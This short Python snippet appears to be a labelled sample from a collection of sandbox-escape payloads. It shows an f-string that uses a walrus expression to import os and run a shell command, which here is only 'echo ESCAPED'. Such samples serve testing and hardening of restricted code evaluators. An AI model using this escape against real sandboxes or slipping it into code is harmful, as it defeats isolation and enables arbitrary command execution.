# kind: f-string
# effect: prints ESCAPED
print(f"{(m := __import__('os'))=!s:.1}{m.system('echo ESCAPED')}")
